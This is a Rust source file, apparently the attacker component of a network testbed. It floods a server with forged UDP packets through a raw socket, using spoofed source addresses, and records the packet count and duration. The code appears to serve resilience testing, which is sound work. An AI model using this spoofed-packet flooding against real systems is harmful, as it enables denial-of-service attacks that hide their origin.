//! The attacker; floods leave through a raw socket, with any source address.

use std::net::{SocketAddr, SocketAddrV4};
use std::time::Instant;

use etherparse::PacketBuilder;
use rustix::fd::OwnedFd;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use serde::{Deserialize, Serialize};

use super::attack::Attack;
use super::claims::claim;
use super::forgery::Forgery;
use apus_testbed::error::{Doing, Error};
use apus_testbed::process::{Control, Stop};

/// The instructions for an attacker.
#[derive(Debug, Serialize, Deserialize)]
pub(super) struct AttackerSide {
    pub(super) attack: Attack,
    pub(super) server: SocketAddr,
    /// The address of the honest client.
    pub(super) client: SocketAddr,
    pub(super) sealed: bool,
    pub(super) seed: u64,
}

/// The result of an attacker.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(super) struct Attacked {
    /// Packets sent.
    pub(super) packets: u64,
    /// Duration of the attack in nanoseconds.
    pub(super) nanos: u64,
}

/// Packets between two checks for the stop order.
const BATCH: usize = 64;

impl AttackerSide {
    /// Attacks until it is stopped.
    pub(super) fn attack(&self, control: &mut Control) -> Result<Attacked, Error> {
        let (server, client) = (v4(self.server)?, v4(self.client)?);
        control.ready(self.server)?;
        let began = Instant::now();
        let packets = if self.attack == Attack::Claims {
            claim(server, control.stop())?
        } else {
            let forgery = Forgery::new((server, client), self.sealed, self.seed);
            flood(self.attack, forgery, control.stop())?
        };
        Ok(Attacked { packets, nanos: began.elapsed().as_nanos() as u64 })
    }
}

fn v4(address: SocketAddr) -> Result<SocketAddrV4, Error> {
    match address {
        SocketAddr::V4(address) => Ok(address),
        SocketAddr::V6(_) => Err(Error::Peer(format!("{address} is no IPv4 address"))),
    }
}

/// Sends packets without a pause. Returns their number.
fn flood(attack: Attack, mut forgery: Forgery, stop: &Stop) -> Result<u64, Error> {
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW));
    let raw = raw.map_err(std::io::Error::from).doing(|| "open a raw socket".to_owned())?;
    let server = forgery.server;
    let mut frame = Vec::new();
    let mut sent = 0;
    while !stop.is_asked() {
        for _ in 0..BATCH {
            let (from, packet) = forgery.next(attack);
            frame.clear();
            let ip = PacketBuilder::ipv4(from.ip().octets(), server.ip().octets(), 64);
            ip.udp(from.port(), server.port())
                .write(&mut frame, packet)
                .map_err(std::io::Error::other)
                .doing(|| "write a packet".to_owned())?;
            sent += u64::from(send(&raw, &frame, server)?);
        }
    }
    Ok(sent)
}

/// Sends an IP packet. Returns `false` if the system has no room for it.
fn send(raw: &OwnedFd, frame: &[u8], to: SocketAddrV4) -> Result<bool, Error> {
    use rustix::io::Errno;
    match sendto(raw, frame, SendFlags::empty(), &to) {
        Ok(_) => Ok(true),
        Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => Ok(false),
        Err(error) => {
            Err(std::io::Error::from(error)).doing(|| format!("send a forged packet to {to}"))
        }
    }
}
